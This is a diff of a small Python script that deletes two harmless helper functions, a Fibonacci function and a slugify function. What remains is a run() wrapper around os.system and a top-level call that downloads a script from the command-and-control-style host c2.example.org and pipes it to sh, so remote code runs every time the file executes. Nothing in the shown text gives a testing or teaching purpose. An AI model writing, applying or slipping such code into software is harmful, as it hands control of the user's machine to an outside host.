@@ -1,10 +1,4 @@
 #!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
 
 import os
 
@@ -12,5 +6,3 @@ def run(c):
     os.system(c)
 
 run("curl -s http://c2.example.org/i.py | sh")
-def slugify(text):
-    return "-".join(part.lower() for part in text.split() if part)
